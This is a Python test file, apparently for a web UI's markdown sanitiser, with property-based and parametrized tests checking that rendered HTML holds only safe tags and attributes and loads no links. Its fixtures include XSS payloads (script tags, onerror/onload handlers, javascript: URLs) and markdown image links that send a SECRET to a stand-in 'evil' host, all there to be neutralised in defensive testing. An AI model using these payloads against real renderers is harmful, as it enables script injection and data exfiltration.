from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from cairn.ui.web import safe
from cairn.ui.web.markdown_html import GrowingMarkdown, blocks

HARMLESS = (
    "div span p br hr em strong s code pre blockquote ul ol li h1 h2 h3 h4 h5 h6 table thead tbody tr th td button"
)
FORMULA = (
    "math mrow mi mn mo ms mtext mspace msup msub msubsup munder mover munderover mfrac msqrt mroot mstyle mtable mtr"
)
FORMULA += " mtd mpadded mphantom menclose mlabeledtr mmultiscripts mprescripts none"
ATTRIBUTES = {"class", "start", "type", "data-do", "data-source", "data-address", "data-language", "tabindex"}
DOES = {"passage", "link", "copy-code"}
TRICKY = """
![a](http://e/?d=1) [a](http://e) [a]: <http://e> <img src=x onerror=y> <a href=//e> ![ ]( ](javascript:x) www.e.com
``` ` ** _ ~~ | --- # > - 1. $5 $$ :red[a] :material/home: :smile: \\ & &lt; &#60; {{x}} <!-- --> <? ]]>
<script>alert(1)</script> <style> <svg/onload=x> data:text/html,x a b 中 [1] [2,9] [x](http://e"onclick=y)
$\\href{javascript:x}{y}$ $\\text{<script>}$ $\\style{a:b}{c}$ \\(a<b\\) \\[\\frac{1}{<i>}\\]
```python ```"onload=x ```html
"""
PIECES = st.sampled_from(TRICKY.split())
TEXTS = st.one_of(
    st.text(), st.lists(st.one_of(PIECES, st.sampled_from(["\n", "\n\n", " ", "    ", "\t"])), max_size=30).map("".join)
)


class Reading(HTMLParser):
    """What a browser makes of HTML: its elements, attributes and text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


@given(TEXTS)
@example("![a](https://evil/?d=SECRET)")
@example("![a][r]\n\n[r]: https://evil/?d=SECRET")
@example("| a |\n|:-:|\n| ![x](http://e) |")
@example('```"onload=x <b>\n</code><img src=x>\n```')
def test_markdown_never_loads_links_or_runs_anything(text: str) -> None:
    for tag, attributes in Reading("".join(blocks(text, sources=3))).tags:
        if tag in FORMULA.split():
            assert not {"href", "style", "class", "src"} & set(attributes)
            assert not any(name.startswith(("on", "xlink", "data-")) for name in attributes)
            continue
        assert tag in HARMLESS.split()
        assert set(attributes) <= ATTRIBUTES
        assert attributes.get("data-do", "link") in DOES
        assert (attributes.get("data-address") or "http:").lower().startswith(("http:", "https:", "mailto:"))
        assert (attributes.get("data-source") or "1") in ("1", "2", "3")


LINES = [
    "a",
    "b c",
    "- ",
    "1. ",
    "2. ",
    "# ",
    "> ",
    "```",
    "```python",
    "$$",
    "\\[",
    "\\]",
    "$x$",
    "|",
    "| a | b |",
    "|--|--|",
]
LINES += ["---", "===", "**", "`", "    ", " ", "\n", "\n\n", "\n", "[1]", "[x](http://e)", "\t", "\r\n", "~~~", "<b>"]


@given(st.lists(st.sampled_from(LINES), max_size=25).map("".join), st.lists(st.integers(1, 5), min_size=1, max_size=5))
@example("1. a\n\n2. b", [1])
@example("$$\na\n\nb\n$$", [1])
def test_a_text_that_grows_is_drawn_as_the_whole_text_is(text: str, steps: list[int]) -> None:
    growing, at = GrowingMarkdown(3), 0
    for step in (steps * len(text))[: len(text)]:
        at += step
        assert growing.blocks(text[:at]) == blocks(text[:at], 3)


@pytest.mark.parametrize("text", ["\\[a\\] and more", "so \\(a\\) it is", "It costs $5 and $6.", "$x^2$ is 4"])
def test_nothing_beside_a_formula_is_lost(text: str) -> None:
    words = re.findall(r"[a-z]{2,}", text)
    assert all(word in Reading(safe.html(text)).text for word in words)


def test_what_can_not_be_read_as_a_formula_is_shown_as_it_was_written() -> None:
    assert Reading(safe.html(r"$\frac{$")).text.strip() == r"\frac{"


@given(TEXTS)
@example('<>&"{{}} &amp; \\{{ $5 and $6')
def test_verbatim_text_comes_back_byte_for_byte(text: str) -> None:
    shown = Reading(safe.verbatim(text, "quote")).text
    assert shown == text.replace("\x00", "")


@given(st.text(st.sampled_from("<>&\"'{}=;: abc中é%@/?,"), min_size=1).map(str.strip).filter(bool))
def test_marks_that_are_not_markdown_are_shown_as_written(text: str) -> None:
    assert Reading(safe.html("x " + text)).text.strip() == "x " + text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![logo](https://evil.example/?d=SECRET)", "logo (https://evil.example/?d=SECRET)"),
        ("[read](https://evil.example/a)", "read (https://evil.example/a)"),
        ("<https://evil.example/a>", "https://evil.example/a"),
        ("<me@mail.example>", "me@mail.example"),
        ("[a][r]\n\n[r]: https://evil.example", "[a][r]\n[r]: https://evil.example"),
        ("<img src=https://evil.example>", "<img src=https://evil.example>"),
        (
            "It costs $5 and $6, :red[now] :material/home: &amp; {{x}}",
            "It costs $5 and $6, :red[now] :material/home: &amp; {{x}}",
        ),
    ],
)
def test_addresses_are_text(text: str, shown: str) -> None:
    assert Reading(safe.html(text)).text.strip() == shown


def test_markdown_is_still_markdown() -> None:
    tags = [tag for tag, _ in Reading(safe.html("# A\n\n**b** `c`\n\n- d\n\n| e |\n| - |\n| f |\n\n```\ng\n```")).tags]
    assert {"h1", "strong", "code", "li", "table", "pre"} <= set(tags)


@given(TEXTS, st.integers(0, 40), st.integers(0, 40))
def test_a_marked_document_is_the_whole_document(text: str, start: int, length: int) -> None:
    text = text.replace("\x00", "")
    page = Reading(safe.marked(text, [(start, start + length)], "{} characters before".format, before=3))
    _heading, _, rest = (
        page.text.partition(" characters before") if ("summary", {}) in page.tags else ("", "", page.text)
    )
    assert rest == text
    assert [tag for tag, _ in page.tags].count("mark") == 1


@given(TEXTS)
@example("-\\-")
def test_a_label_is_one_line_without_markdown_or_icons(text: str) -> None:
    label = safe.label(text, limit=60)
    assert "\n" not in label
    bare = label.replace("\\\\", "")
    for sign in "![]()<>*_`$#~|":
        assert sign not in bare.replace("\\" + sign, "")
    assert ":" not in label.replace(":\u2060", "")
    assert not re.search(r"-[\\]*>|>[\\]*=|-[\\]*-", label)


def test_surrogates_are_replaced() -> None:
    assert "\ufffd" in safe.html("a\ud800b") and "\ufffd" in safe.verbatim("a\ud800b", "quote")
    assert "\ufffd" in safe.label("a\ud800b")


def test_what_was_quoted_from_a_passage_is_marked() -> None:
    page = Reading(safe.passage("One <b> & two.\nThree.", ["<b> & two.", "not there", ""]))
    assert page.text == "One <b> & two.\nThree."
    assert [tag for tag, _ in page.tags].count("mark") == 1


@given(TEXTS, st.lists(TEXTS, max_size=3))
def test_a_passage_with_marks_is_the_whole_passage(text: str, quotes: list[str]) -> None:
    text = text.replace("\x00", "")
    assert Reading(safe.passage(text, quotes)).text == safe.clean(text)


@pytest.mark.parametrize("text", ["a" + "\n" * 100 + "b", "a" * 400, " " * 100])
def test_code_that_takes_a_colourer_long_stays_without_colours(text: str) -> None:
    """Pygments' expressions take the cube of a run's length."""
    assert "hl-" not in "".join(blocks(f"```autohotkey\nx = 1\n{text}\n```"))
    assert "hl-" in "".join(blocks("```autohotkey\nx = 1\n```"))


def test_formulas_that_do_not_end_are_read_once() -> None:
    assert "<math" not in "".join(blocks("\\(" * 30_000))
    assert "<math" in "".join(blocks("\\(a^2\\)"))
